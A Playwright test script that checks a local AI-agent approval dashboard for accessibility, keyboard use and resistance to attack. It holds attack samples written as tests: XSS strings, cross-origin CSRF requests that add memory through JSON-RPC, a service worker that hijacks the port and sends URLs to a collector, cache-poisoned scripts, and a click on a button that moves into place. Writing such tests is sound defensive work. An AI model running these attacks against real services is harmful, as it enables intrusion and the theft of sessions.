// A real Chromium at the page, by keyboard: page_browser.mjs PACKAGES FOLDER LINK WHAT.
// Prints as JSON what it found; WHAT is one of `kinds`, below.
import {execFileSync} from 'node:child_process';
import {createServer} from 'node:http';
import {mkdirSync, readFileSync, writeFileSync} from 'node:fs';
import {createRequire} from 'node:module';
import {join} from 'node:path';

const [packages, folder, link, what] = process.argv.slice(2);
const require = createRequire(join(packages, 'node_modules', 'x'));
const {chromium} = require('playwright-core');
const axe = readFileSync(join(packages, 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
const PATIENCE = 60000;
const PHONE = {width: 390, height: 844};
const DESK = {width: 1280, height: 800};
const WIDE = {width: 2000, height: 1100};
const problems = [];
const found = {};

const browser = await chromium.launchPersistentContext(join(folder, 'profile'), {
	executablePath: '/usr/bin/chromium', headless: true, viewport: DESK, timeout: PATIENCE,
	args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
		'--disable-component-update', '--disable-sync'],
});

browser.setDefaultTimeout(PATIENCE);

async function open(address) {
	const page = await browser.newPage();

	page.on('pageerror', e => problems.push(`error: ${e.message}`));
	page.on('console', m => m.type() === 'error' && problems.push(`console: ${m.text()}`));
	page.on('dialog', d => {
		problems.push(`dialog: ${d.message()}`);
		d.dismiss();
	});
	await page.goto(address);
	return page;
}

// axe runs in the page's own world by the debugger, which its policy does not concern.
async function judge(page, where) {
	await page.evaluate(axe);
	const result = await page.evaluate(() => globalThis.axe.run(document, {resultTypes: ['violations']}));

	for (const v of result.violations)
		if (v.impact === 'serious' || v.impact === 'critical')
			problems.push(`axe, ${where}: ${v.id}: ${v.nodes.map(n => n.target.join(' ')).slice(0, 4).join('; ')}`);
	found.judged = (found.judged ?? 0) + 1;
}

async function fits(page, where) {
	const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);

	if (wide > 1)
		problems.push(`${where} is ${wide} pixels too wide`);
}

const base = new URL(link).origin;

function koine(...args) {
	return execFileSync(process.env.KOINE, ['--socket', process.env.KOINE_SOCKET, ...args], {encoding: 'utf8'});
}

// Tab until something with this name is focused; by keyboard alone.
async function tab(page, text) {
	for (let i = 0; i < 60; i++) {
		await page.keyboard.press('Tab');
		if (await page.evaluate(t => document.activeElement?.textContent?.trim() === t ||
			document.activeElement?.labels?.[0]?.textContent?.trim() === t, text))
			return;
	}
	throw new Error(`Tab does not reach ${text}`);
}

async function look(page, name, size) {
	await page.setViewportSize(size);
	await fits(page, `${name} at ${size.width}`);
	await judge(page, `${name} at ${size.width}`);
}

async function both(page, name) {
	await look(page, name, PHONE);
	await look(page, name, DESK);
}

const steps = {
	async inbox(page) {
		await page.locator('.card').nth(3).waitFor();
		found.cards = await page.locator('.card h2').allTextContents();
		await page.getByText('make install && reboot').waitFor();
		await page.locator('.diff td.old').first().waitFor();
		await page.getByText('<img src=x onerror=alert(1)> \\u001b[31m \u27e8U+202E\u27e9').waitFor();
		await both(page, 'inbox');
		// The first is a command: chosen by j, approved by a.
		await page.keyboard.press('j');
		await page.waitForFunction(() => document.activeElement?.matches('.card.chosen'));
		found.first = await page.evaluate(() => document.activeElement.querySelector('h2').textContent);
		await page.waitForFunction(t => performance.now() > t, await page.evaluate(() => performance.now() + 450));
		await page.keyboard.press('a');
		await page.waitForFunction(n => document.querySelectorAll('.card').length === n, found.cards.length - 1);
		// The next is denied with a comment, by the keys of the buttons themselves.
		await tab(page, 'Comment');
		await page.keyboard.type('not on a Friday');
		await page.keyboard.down('Shift');
		for (let i = 0; i < 10 && await page.evaluate(() => document.activeElement?.textContent !== 'Deny'); i++)
			await page.keyboard.press('Tab');
		await page.keyboard.up('Shift');
		await page.keyboard.press('Enter');
		await page.waitForFunction(n => document.querySelectorAll('.card').length === n, found.cards.length - 2);
		// The last but one is answered elsewhere, and goes by itself.
		koine('deny', '--comment', 'elsewhere', JSON.parse(koine('approvals', '--json'))[0].id);
		await page.waitForFunction(n => document.querySelectorAll('.card').length === n, found.cards.length - 3);
	},

	async tasks(page) {
		await page.locator('.row').first().waitFor();
		await both(page, 'tasks');
		await tab(page, 'Add a task');
		await page.keyboard.press('Enter');
		await page.keyboard.press('Tab');
		await page.keyboard.type('printf "<b>from the page</b>\\n"');
		await tab(page, 'Add');
		await page.keyboard.press('Enter');
		await page.locator('.output', {hasText: '<b>from the page</b>'}).waitFor();
		await page.locator('.chip.completed').first().waitFor();
		await both(page, 'a task');
		found.task = await page.locator('.pane h2').textContent();
	},

	async sessions(page) {
		await page.locator('.row').first().waitFor();
		await both(page, 'sessions');
		await page.locator('.row', {has: page.locator('.waiting_input')}).focus();
		await page.keyboard.press('Enter');
		await page.locator('.said-by').first().waitFor();
		await page.locator('.tool > summary .chip', {hasText: 'pending'}).waitFor();
		found.thinking = await page.locator('.said-by details:not([open])').allTextContents();
		await page.locator('.tool > .inner').getByText('Below it.').waitFor();
		await both(page, 'a session');
		// Decided elsewhere: the call says so, and what comes of it follows.
		koine('approve', JSON.parse(koine('approvals', '--json'))[0].id);
		await page.locator('.tool > summary .chip', {hasText: 'approved'}).waitFor();
		await page.locator('.tool > .result', {hasText: 'done'}).waitFor();
		await page.locator('.pane h2 .chip.completed').waitFor();
		await page.getByText('$0.031').waitFor();
	},

	async memory(page) {
		await page.locator('.card').first().waitFor();
		await page.keyboard.press('/');
		await page.keyboard.type('violin');
		await page.locator('mark').first().waitFor();
		found.marked = await page.locator('mark').first().textContent();
		await page.getByText('found by').first().waitFor();
		await both(page, 'memory');
		await tab(page, 'Edit');
		await page.keyboard.press('Enter');
		await page.keyboard.type('. ');
		await tab(page, 'Save');
		await page.keyboard.press('Enter');
		await page.locator('.card .field').waitFor({state: 'detached'});
	},

	async events(page) {
		await page.locator('.events tbody tr').first().waitFor();
		await page.keyboard.press('/');
		await page.keyboard.type('memory.*');
		await page.waitForFunction(() => [...document.querySelectorAll('.events .chip')].every(c => c.textContent.startsWith('memory.')) &&
			document.querySelector('.events .chip'));
		found.address = new URL(page.url()).hash;
		const first = await page.locator('.events tbody tr').first().getAttribute('data-seq');

		koine('memory', 'add', 'An event comes by itself');
		await page.waitForFunction(n => document.querySelector('.events tbody tr')?.dataset.seq > n, first);
		await page.getByText('nightly').first().waitFor();
		await both(page, 'events');
		await tab(page, 'nightly');
		await page.keyboard.press('Space');
		await page.waitForFunction(() => !document.querySelector('[role=switch]').checked);
	},

	async machine(page) {
		await page.getByText('healthy').waitFor();
		await page.locator('.chart svg path').nth(11).waitFor({state: 'attached'});
		found.charts = await page.locator('.chart figcaption').allTextContents();
		await page.locator('.chip.ok', {hasText: 'yes'}).first().waitFor();
		await page.getByText('Sign out').waitFor();
		found.hosts = await page.locator('#hosts:not(:empty) td, #hosts p').allTextContents();
		await both(page, 'machine');
	},
};

const kinds = {
	async rooms() {
		const page = await open(link);

		await page.waitForURL(`${base}/`);
		for (const [i, name] of Object.keys(steps).entries()) {
			await page.evaluate(() => document.activeElement?.blur());
			await page.keyboard.press(String(i + 1));
			await page.waitForFunction(n => document.querySelector('[aria-current]')?.dataset.room === n, name);
			await steps[name](page);
		}
		await page.emulateMedia({colorScheme: 'dark'});
		for (const i of '123456') {
			await page.evaluate(() => document.activeElement?.blur());
			await page.keyboard.press(i);
			await judge(page, `room ${i} in the dark`);
		}
		await page.setViewportSize({width: 360, height: 640});
		await fits(page, 'the narrowest');
	},

	// How tasks have ended, and again.
	async outcomes() {
		const page = await open(link);
		const row = id => page.locator(`.row[href="#/tasks/${id}"]`);
		const look = async state => {
			await page.evaluate(s => { location.hash = `#/tasks?state=${s}`; }, state);
			await page.waitForFunction(s => [...document.querySelectorAll('.row[data-key] .chip:first-child')]
				.map(e => e.textContent).join() === s, state);
			return (await page.locator('.row[data-key]').innerText()).replace(/\s+/g, ' ');
		};

		await page.waitForURL(`${base}/`);
		found.skipped = await look('skipped');
		found.failed = await look('failed');
		await row('task-0000').click();
		await page.locator('.facts', {hasText: 'Resultexit 127'}).waitFor();
		found.error = await page.locator('pre.error').textContent();
		await page.getByRole('button', {name: 'Retry'}).click();
		await page.getByText('Waiting: all tasks are paused').waitFor();
	},

	// Long lists, and what its user does with tasks that wait: by keyboard, by mouse, and elsewhere.
	async control() {
		const page = await open(link);
		const rows = page.locator('.row[data-key]');
		const row = id => page.locator(`.row[href="#/tasks/${id}"]`);

		await page.waitForURL(`${base}/`);
		await page.keyboard.press('2');
		await rows.nth(99).waitFor();
		found.first = await rows.count();
		while (await rows.count() < 250)
			await Promise.all([page.mouse.wheel(0, 100000), page.waitForTimeout(20)]);
		await page.getByText('Show more').waitFor({state: 'hidden'});
		found.order = await page.evaluate(() => [...document.querySelectorAll('.row .id')].map(e => e.textContent));
		koine('task', 'edit', '3', '--label', 'from <b>elsewhere</b>');
		await row('task-0003').getByText('from <b>elsewhere</b>').waitFor();
		found.kept = await rows.count();
		koine('task', 'add', '--stash', 'the newest');
		await row('task-0250').waitFor();
		found.more = await rows.count();
		await page.keyboard.press('p');
		await page.getByText('All tasks are paused').waitFor();
		await row('task-0248').focus();
		await page.keyboard.press('+');
		await row('task-0248').getByText('priority 1').waitFor();
		await page.waitForFunction(() => document.activeElement?.dataset.key?.endsWith('task-0248'));
		await page.keyboard.press('s');
		await row('task-0248').getByText('paused').waitFor();
		await page.keyboard.press('s');
		await row('task-0248').getByText('stashed').waitFor();
		await page.keyboard.press('-');
		await row('task-0248').getByText('priority').waitFor({state: 'detached'});
		await page.keyboard.press('e');
		await page.locator('section[aria-label^="Edit"]').getByLabel('Prompt').waitFor();
		await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA');
		found.waits = await page.locator('.pane .note').first().textContent();
		await page.keyboard.press('Control+A');
		await page.keyboard.type('changed on the page');
		// Somebody else's change does not take away what is typed.
		koine('task', 'edit', '248', '--label', 'meanwhile');
		await page.waitForResponse(async r => (await r.text().catch(() => '')).includes('"label":"meanwhile"'));
		await both(page, 'a task that is changed');
		await page.getByLabel('After (task ids)').fill('task-0249, task-0248');
		await page.getByRole('button', {name: 'Save'}).click();
		await page.getByText('dependency cycle').waitFor();
		await page.getByLabel('After (task ids)').fill('task-0249');
		await tab(page, 'Save');
		await page.keyboard.press('Enter');
		await page.locator('.prompt', {hasText: 'changed on the page'}).waitFor();
		await page.getByRole('button', {name: 'Priority +1'}).click();
		await page.getByRole('button', {name: 'Priority +1'}).click();
		await page.locator('.facts', {hasText: 'Priority2'}).waitFor();
		await page.getByRole('button', {name: 'Enqueue'}).click();
		await page.locator('.pane .chip', {hasText: 'paused'}).waitFor();
		await page.getByText('all tasks').first().click();
		await page.getByText('Groups').click();
		await page.getByRole('button', {name: 'Pause group docs'}).click();
		await page.getByRole('button', {name: 'Resume group docs'}).waitFor();
		await both(page, 'tasks, paused');
		found.paused = JSON.parse(koine('call', 'task.find', '{"limit":1}')).paused_groups;
		await page.getByRole('button', {name: 'Resume group docs'}).focus();
		await page.keyboard.press('Enter');
		await page.getByRole('button', {name: 'Pause group docs'}).waitFor();
		await page.getByRole('button', {name: 'Resume all'}).click();
		await page.getByText('All tasks are paused').waitFor({state: 'hidden'});
	},

	// What is too long, and what would like to be read as markup: the page stays usable, and bounded.
	async hostile() {
		const page = await open(link);
		const quick = async (name, work) => {
			const before = Date.now();

			await work();
			(found.took ??= {})[name] = Date.now() - before;
		};
		const size = () => page.evaluate(() => document.querySelectorAll('*').length);
		const text = () => page.evaluate(() => document.body.textContent.length);

		await page.waitForURL(`${base}/`);
		await page.locator('.card .diff').first().waitFor();
		await page.getByText('more rows').first().waitFor();
		found.diff = {nodes: await size(), text: await text()};
		await quick('more rows', async () => {
			await page.getByText('more rows').first().click();
			await page.waitForFunction(n => document.querySelectorAll('.diff tr').length > n, 500);
		});
		await quick('a room', async () => {
			await page.keyboard.press('2');
			await page.locator('.row[data-key]').first().waitFor();
		});
		for (const t of JSON.parse(process.env.KOINE_LONG)) {
			await page.goto(`${base}/#/tasks/${t}`);
			await page.locator('.output .piece').first().waitFor();
			await page.locator('.pane .chip.completed').first().waitFor();
			(found.output ??= []).push(await page.evaluate(() => document.querySelector('.output').textContent.length));
			await page.getByRole('button', {name: 'Earlier output'}).click();
			await page.waitForFunction(() => document.querySelectorAll('.output .piece').length > 1);
		}
		await quick('another room', async () => {
			await page.evaluate(() => document.activeElement?.blur());
			await page.keyboard.press('5');
			await page.locator('.events tbody tr').first().waitFor();
		});
		for (const i of '123456') {
			await page.evaluate(() => document.activeElement?.blur());
			await page.keyboard.press(i);
			await page.locator('.row, .card, .events tbody tr').first().waitFor();
			found.evil = (found.evil ?? 0) + await page.evaluate(() => document.querySelectorAll('main img, main script, main b, main i').length);
			found.escapes = (found.escapes ?? 0) + await page.evaluate(() => (document.body.textContent.match(/[\u001b\u202e\u0007]/g) ?? []).length);
			await fits(page, `room ${i} with evil texts`);
		}
	},

	// What is decided about is all there, and nothing in it looks like something else.
	async shown() {
		const page = await open(link);
		const cards = page.locator('.card');
		const late = Promise.withResolvers();

		await page.waitForURL(`${base}/`);
		await cards.nth(Number(process.env.KOINE_CARDS) - 1).waitFor();
		found.cards = await cards.evaluateAll(all => all.map(c => c.innerText));
		await look(page, 'tricks', PHONE);
		found.diff = await page.locator('.diff').first().evaluate(d => [...d.querySelectorAll('.changed td:not(.none)')]
			.sort((a, b) => a.getBoundingClientRect().top - b.getBoundingClientRect().top).map(td => td.textContent));
		await page.setViewportSize(DESK);
		// A long input comes by a call of its own: before that nobody approves it by its head.
		await page.route('**/rpc', async route => {
			if (route.request().postData().includes('approval.get'))
				await late.promise;
			await route.continue();
		});
		await page.goto(`${base}/#/inbox/${process.env.KOINE_BIG}`);
		await page.reload();
		await page.waitForFunction(() => document.activeElement?.matches('.card.chosen'));
		found.chosen = await page.evaluate(() => document.activeElement.querySelector('h2').textContent);
		await page.waitForFunction(t => performance.now() > t, await page.evaluate(() => performance.now() + 450));
		await page.keyboard.press('a');
		await page.getByText('The request is still loading').waitFor();
		found.waits = JSON.parse(koine('call', 'approval.get', JSON.stringify({id: process.env.KOINE_BIG}))).status;
		late.resolve();
		await page.locator('.card.chosen .mark').waitFor();
		await page.keyboard.press('a');
		await page.waitForFunction(n => document.querySelectorAll('.card').length === n, found.cards.length - 1);
		await page.goto(`${base}/#/inbox`);
		await page.goto(`${base}/#/inbox/${process.env.KOINE_BIG}`);
		await page.getByText('This approval is no longer pending').waitFor();
	},

	// What hides below blank lines, a key that is held, an address that is none, koined away for a moment, and age.
	async traps() {
		const page = await open(link);
		const cards = page.locator('.card');
		const scrolls = 'note => note.textContent.startsWith("Scroll this box") && !note.hidden';
		const count = () => page.evaluate(() => [document.querySelectorAll('.card').length, document.querySelectorAll('[aria-busy]').length]);
		const settle = async () => page.waitForFunction(t => performance.now() > t, await page.evaluate(() => performance.now() + 450));
		let away = true;

		await page.waitForURL(`${base}/`);
		await cards.nth(4).waitFor();
		for (const size of [PHONE, DESK]) {
			await page.setViewportSize(size);
			await page.waitForFunction(`[...document.querySelectorAll('.card .note')].filter(${scrolls}).length === 3`);
			(found.scrolling ??= []).push(await page.evaluate(`[...document.querySelectorAll('.card')].map(c => [...c.querySelectorAll('.note')].some(${scrolls}))`));
		}
		await judge(page, 'boxes that scroll');
		// What has just been chosen is not decided by the same breath; and a key that stays down decides once.
		found.quick = await page.evaluate(() => {
			for (const key of ['j', 'a', 'd', 's'])
				document.body.dispatchEvent(new KeyboardEvent('keydown', {key, bubbles: true}));
			return [document.querySelectorAll('.card.chosen').length, document.querySelectorAll('[aria-busy]').length];
		});
		await settle();
		await page.keyboard.down('a');
		await page.waitForFunction(() => document.querySelectorAll('.card').length === 4 && document.activeElement?.matches('.card.chosen'));
		await settle();
		for (let i = 0; i < 3; i++)
			await page.keyboard.down('a');
		found.held = await count();
		await page.keyboard.up('a');
		await page.keyboard.press('a');
		await page.waitForFunction(() => document.querySelectorAll('.card').length === 3);
		// What was asked grows older while one looks.
		await page.locator('.card .who time').first().evaluate(t => t.setAttribute('datetime', new Date(Date.now() - 3 * 3600000).toISOString()));
		await page.locator('.card .who time').first().getByText('3 h ago').waitFor();
		// Addresses that are none.
		for (const to of ['constructor', '__proto__', '%E0%A4%A', 'tasks/%', 'inbox/%']) {
			await page.goto(`${base}/#/events`);
			await page.locator('.events tbody tr').first().waitFor();
			await page.goto(`${base}/#/${to}`);
			await page.locator('h1', {hasText: to.startsWith('tasks') ? 'Tasks' : 'Inbox'}).waitFor();
		}
		// The whole of a long one is asked for again once koined is back.
		await page.route('**/rpc', route => (away && route.request().postData().includes('approval.get') ? route.abort() : route.continue()));
		await page.goto(`${base}/#/inbox`);
		await page.reload();
		await page.getByText('Loading the full input').waitFor();
		await page.getByText('koined is not responding').waitFor();
		away = false;
		koine('deny', '--comment', 'elsewhere', JSON.parse(koine('approvals', '--json'))[0].id);
		await page.getByText('Loading the full input').waitFor({state: 'hidden'});
		await page.locator('.card .mark').waitFor();
		problems.splice(0, problems.length, ...problems.filter(p => !p.includes('net::ERR_FAILED')));
	},

	// A page of another origin at the same machine: the browser sends it our cookie with what it asks of us.
	async foreign() {
		const page = await open(link);
		const html = `<!doctype html><title>evil</title><iframe name=f></iframe><iframe name=g></iframe><iframe src="${base}/"></iframe><img src="${base}/icon.svg"><script src="${base}/app.js"></script>
			<form id=a method=post enctype=text/plain target=f action="${base}/rpc"><input name='{"jsonrpc":"2.0","id":1,"method":"memory.add","params":{"content":"evil","source":"' value='"}}'></form>
			<form id=b method=post target=g action="${process.env.KOINE_ANSWER}"></form>`;
		const server = createServer((q, r) => {
			// The browser gives our cookie to every port of this machine; what it asks of us has it, too.
			found.cookie ||= (q.headers.cookie ?? '').includes(`koine-${new URL(base).port}=`);
			r.setHeader('Content-Type', 'text/html').end(html);
		});
		const answers = [];

		await page.waitForURL(`${base}/`);
		await new Promise(done => server.listen(0, '127.0.0.1', done));
		server.unref();
		for (const host of ['127.0.0.1', 'localhost', new URL(base).hostname]) {
			const evil = await browser.newPage();

			evil.on('response', r => r.url().startsWith(base) && answers.push(r.status()));
			await evil.goto(`http://${host}:${server.address().port}/`);
			found.heard = (found.heard ?? 0) + await evil.evaluate(async ours => {
				const body = JSON.stringify({jsonrpc: '2.0', id: 1, method: 'memory.add', params: {content: 'evil'}});
				let heard = 0;
				const source = new EventSource(`${ours}/events`, {withCredentials: true});
				const told = r => { heard += r.type !== 'opaque'; };

				source.onopen = source.onmessage = () => heard++;
				navigator.sendBeacon(`${ours}/rpc`, body);
				new WebSocket(`${ours.replace('http', 'ws')}/rpc`);
				for (const mode of ['no-cors', 'cors'])
					for (const type of ['text/plain', 'application/json'])
						await fetch(`${ours}/rpc`, {method: 'POST', mode, credentials: 'include', headers: {'Content-Type': type}, body}).then(told, () => {});
				await fetch(`${ours}/`, {mode: 'no-cors', credentials: 'include'}).then(told, () => {});
				return heard;
			}, base);
			for (const n of [0, 1])
				await Promise.all([Promise.any(['response', 'requestfailed'].map(what => browser.waitForEvent(what, r => {
					const q = what === 'response' ? r.request() : r;

					return q.isNavigationRequest() && q.method() === 'POST';
				}))), evil.evaluate(i => document.forms[i].submit(), n)]);
			await evil.close();
		}
		server.close();
		found.taken = answers.filter(status => status < 400);
	},

	// A click at the place of a button, in the very moment in which another card comes there.
	async moved() {
		const page = await open(link);
		const cards = page.locator('.card');
		const settle = async () => page.waitForFunction(t => performance.now() > t, await page.evaluate(() => performance.now() + 450));
		const waiting = () => JSON.parse(koine('approvals', '--json')).map(a => a.id);

		await page.waitForURL(`${base}/`);
		await cards.nth(1).waitFor();
		await settle();
		const {x, y, width, height} = await cards.first().getByRole('button', {name: 'Approve'}).boundingBox();
		const at = [x + width / 2, y + height / 2];

		await page.evaluate(([left, top]) => {
			window.hits = [];
			new MutationObserver(() => {
				const hit = document.elementFromPoint(left, top)?.closest('button');

				window.hits.push(hit?.textContent ?? null);
				hit?.dispatchEvent(new MouseEvent('click', {detail: 1, bubbles: true, cancelable: true}));
			}).observe(document.querySelector('.cards'), {childList: true});
		}, at);
		koine('deny', '--comment', 'elsewhere', waiting()[0]);
		await page.waitForFunction(() => window.hits.length === 1);
		found.hit = (await page.evaluate(() => window.hits))[0];
		found.busy = await page.locator('[aria-busy]').count();
		await page.getByText('has just changed').waitFor();
		await settle();
		found.waits = waiting().length;
		await page.mouse.click(...at);
		await page.waitForFunction(() => document.querySelectorAll('.card').length === 0);
		found.left = waiting().length;
		// One that has just come.
		await page.evaluate(() => { window.hits = []; });
		koine('call', 'approval.create', '{"tool":"Fresh","input":{"command":"ls"}}');
		await page.waitForFunction(() => window.hits.includes('Approve'));
		found.fresh = await page.locator('[aria-busy]').count();
	},

	// Another user has our port while we are away, and leaves a worker and poisoned files at every name that is known.
	async prepare() {
		const {port, collector} = JSON.parse(process.env.KOINE_EVIL);
		const send = what => `fetch('http://127.0.0.1:${collector}/' + ${what}, {mode: 'no-cors'}).catch(() => {})`;
		const worker = `self.addEventListener('install', () => self.skipWaiting());
			self.addEventListener('activate', e => e.waitUntil(clients.claim()));
			self.addEventListener('fetch', e => {
				const url = e.request.url;
				${send("'worker?' + encodeURIComponent(url)")};
				if (!url.includes('/enter'))
					return;
				e.respondWith((async () => {
					const used = await fetch(url, {redirect: 'manual'}).then(r => r.status, () => 0);
					await ${send("'used?' + used")};
					return new Response('<title>evil</title>evil', {headers: {'Content-Type': 'text/html'}});
				})());
			});`;
		const server = createServer((q, r) => {
			const script = q.url.endsWith('.js');

			r.setHeader('Cache-Control', q.url === '/sw.js' ? 'no-store' : 'max-age=31536000, immutable');
			r.setHeader('Content-Type', script ? 'text/javascript' : 'text/html');
			r.end(q.url === '/sw.js' ? worker : script ? send("'poisoned'") : '<!doctype html><title>evil</title>');
		});

		await new Promise(done => server.listen(port, '127.0.0.1', done));
		found.workers = 0;
		for (const host of ['127.0.0.1', 'localhost']) {
			const page = await browser.newPage();

			await page.goto(`http://${host}:${port}/`);
			found.workers += await page.evaluate(async () => {
				for (const path of ['/app.js', '/inbox.js', '/link.js', '/index.html'])
					await fetch(path);
				await navigator.serviceWorker.register('/sw.js');
				await navigator.serviceWorker.ready;
				return (await navigator.serviceWorker.getRegistrations()).length;
			});
			await page.close();
		}
		server.closeAllConnections();
		server.close();
	},

	async prepared() {
		const {port, collector} = JSON.parse(process.env.KOINE_EVIL);
		const seen = [];
		const server = createServer((q, r) => {
			seen.push(q.url);
			r.end();
		});

		await new Promise(done => server.listen(collector, '127.0.0.1', done));
		server.unref();
		const page = await open(link);

		await page.waitForURL(`${base}/`);
		await page.locator('.room-inbox').waitFor();
		found.first = [...seen];
		// The link at a name that the worker has: it is seen there, and worth nothing.
		const next = new URL(koine('page', '--no-open').trim());
		const evil = await browser.newPage();

		await evil.goto(`http://127.0.0.1:${port}${next.pathname}${next.search}`);
		found.title = await evil.title();
		found.used = seen.filter(u => u.startsWith('/used'));
		found.worker = seen.some(u => u.startsWith('/worker'));
		found.called = await evil.evaluate(() => fetch('/rpc', {method: 'POST', headers: {'Content-Type': 'application/json'},
			body: '{"jsonrpc":"2.0","id":1,"method":"ping"}'}).then(r => r.status));
		await page.goto(next.href);
		await page.waitForURL(`${next.origin}/`);
		await page.locator('.room-inbox').waitFor();
		found.poisoned = seen.some(u => u.startsWith('/poisoned'));
		// What koined answers there ends the worker.
		await evil.goto(`http://127.0.0.1:${port}/nothing`).catch(() => {});
		found.workers = await evil.evaluate(async () => (await navigator.serviceWorker?.getRegistrations() ?? []).length);
	},

	// Sessions that koined did not start, and one of which it knows nothing: the inbox links to both.
	async observed() {
		const page = await open(link);

		await page.waitForURL(`${base}/`);
		await page.getByRole('link', {name: /^session observed/}).click();
		await page.getByText('observes the session through the hooks of claude', {exact: false}).waitFor();
		found.observed = await page.locator('.pane .gist').allTextContents();
		found.actions = await page.locator('.pane button').count();
		await page.goto(`${base}/#/inbox`);
		await page.getByRole('link', {name: /^session unheard/}).click();
		await page.getByText('has no transcript of this session', {exact: false}).waitFor();
		found.unheard = await page.locator('.pane .gist').allTextContents();
		await page.goto(`${base}/#/sessions`);
		await page.getByText('tidy the shelves', {exact: true}).waitFor();
		found.list = await page.locator('.rows .row .gist').allTextContents();
		// The response comes after the user has left; the list is read again only then.
		const calls = method => r => r.method() === 'POST' && r.postDataJSON()?.method === method;
		let leave;
		const left = new Promise(resolve => leave = resolve);

		await page.route('**/rpc', async route => {
			if (calls('session.get')(route.request()))
				await left;
			await route.continue();
		});
		const asked = page.waitForRequest(calls('session.get'));

		await page.getByText('tidy the shelves', {exact: true}).click();
		await asked;
		await page.goto(`${base}/#/sessions`);
		const again = page.waitForResponse(r => calls('session.list')(r.request()));

		leave();
		await again;
		found.stale = await page.locator('.pane').count();
		found.back = await page.locator('.rows .row .gist').allTextContents();
	},

	// A session that has said very much, and one that says much while somebody watches.
	async endless() {
		const page = await open(link);
		const said = page.locator('.said-by');
		const {long, lively, go} = JSON.parse(process.env.KOINE_SESSIONS);

		await page.waitForURL(`${base}/`);
		await page.goto(`${base}/#/sessions/${long}`);
		await page.getByText('words 200000', {exact: true}).waitFor();
		found.first = [await said.count(), await page.evaluate(() => document.querySelectorAll('*').length)];
		await page.getByRole('button', {name: 'Earlier'}).click();
		await page.getByText('words 199601', {exact: true}).waitFor();
		found.second = await said.count();
		await page.goto(`${base}/#/sessions/${lively}`);
		await page.getByText('begun', {exact: true}).waitFor();
		writeFileSync(go, '');
		await page.getByText('line 2500', {exact: true}).waitFor();
		found.followed = await said.count();
		found.end = await page.evaluate(() => document.documentElement.scrollHeight - document.documentElement.scrollTop - innerHeight);
		await page.getByRole('button', {name: 'Earlier'}).click();
		await page.waitForFunction(n => document.querySelectorAll('.said-by').length > n, found.followed);
	},

	// Many tabs share one stream: a browser has six connections for all of them. One that has it and says
	// nothing, as browsers let hidden ones stand still, loses it to the one that is looked at.
	async tabs() {
		const pages = [await open(link)];
		const next = () => JSON.parse(koine('approvals', '--json'))[0].id;
		const left = n => Promise.all(pages.map(p => p.waitForFunction(k => document.querySelectorAll('.card').length === k &&
			!document.body.classList.contains('away'), n, {polling: 200})));

		await pages[0].waitForURL(`${base}/`);
		await pages[0].locator('.card').nth(2).waitFor();
		while (pages.length < Number(process.env.KOINE_TABS)) {
			pages.push(await open(`${base}/#/inbox`));
			await pages.at(-1).locator('.card').nth(2).waitFor();
		}
		koine('deny', '--comment', 'elsewhere', next());
		await left(2);
		await pages[0].evaluate(() => {
			window.post = BroadcastChannel.prototype.postMessage;
			BroadcastChannel.prototype.postMessage = () => {};
		});
		await pages.at(-1).evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
		koine('deny', '--comment', 'elsewhere', next());
		await left(1);
		// Whoever has it closes, and another one goes on: any of them, also the first.
		await pages[0].evaluate(() => { BroadcastChannel.prototype.postMessage = window.post; });
		await pages.pop().close();
		koine('deny', '--comment', 'elsewhere', next());
		await left(0);
		found.tabs = pages.length + 1;
	},

	// koined ends, cleanly and otherwise, while a tab is open, and comes back; each file says how far it is.
	async ended() {
		found.said = [];
		for (const [at, how] of ['stop', 'kill'].entries()) {
			const page = await open(at === 0 ? link : koine('page', '--no-open').trim());

			await page.locator('.room-inbox').waitFor();
			if (at === 0) {
				writeFileSync(join(folder, 'restart-open'), '');
				await page.getByText('after the restart').first().waitFor();
			}
			writeFileSync(join(folder, `${how}-open`), '');
			await page.getByText('lost connection to koined').waitFor();
			writeFileSync(join(folder, `${how}-away`), '');
			await page.getByText('To sign in again').waitFor();
			found.said.push(await page.locator('main').innerText());
			await page.close();
		}
		problems.splice(0, problems.length, ...problems.filter(p => !/net::ERR_|401/.test(p)));
	},

	async answer() {
		const page = await open(process.env.KOINE_ANSWER);

		await both(page, 'answer');
		found.asked = await page.locator('pre').textContent();
		found.style = await page.locator('pre').evaluate(e => getComputedStyle(e).whiteSpace);
		await tab(page, 'Approve');
		await page.keyboard.press('Enter');
		await page.getByText('Approved by').waitFor();
		found.said = await page.locator('p').textContent();
	},

	async pictures() {
		const page = await open(link);
		const into = process.env.KOINE_PICTURES;
		const {session, task} = JSON.parse(process.env.KOINE_OPEN);
		// What is there once a place shows what it has.
		const places = {inbox: '.card', tasks: '.row .last', task: '.output .piece', sessions: '.row', session: '.tool', memory: '.card mark',
			events: '.events tbody tr', machine: '.chart'};
		const paths = {task: `tasks/${task}`, session: `sessions/${session}`, memory: 'memory?q=where+is+the+shop+deployed'};

		mkdirSync(into, {recursive: true});
		await page.waitForURL(`${base}/`);
		for (const scheme of ['light', 'dark']) {
			await page.emulateMedia({colorScheme: scheme, reducedMotion: 'reduce'});
			for (const [name, there] of Object.entries(places)) {
				await page.goto(`${base}/#/${paths[name] ?? name}`);
				await page.locator(there).first().waitFor();
				if (name === 'session')
					await page.locator('.tool > summary').evaluateAll(all => [0, 3].map(i => all[i]?.parentElement.setAttribute('open', '')));
				for (const [at, size] of Object.entries({'': DESK, '-phone': PHONE, '-wide': WIDE})) {
					await page.setViewportSize(size);
					await page.evaluate(() => window.scrollTo(0, 0));
					await page.screenshot({path: join(into, `${name}${at}${scheme === 'dark' ? '-dark' : ''}.png`)});
				}
			}
		}
	},
};

try {
	await kinds[what]();
} catch (error) {
	problems.push(String(error.stack ?? error));
	for (const p of browser.pages())
		await p.screenshot({path: join(folder, 'failed.png')}).catch(() => {});
} finally {
	await browser.close();
}
console.log(JSON.stringify({...found, problems}));
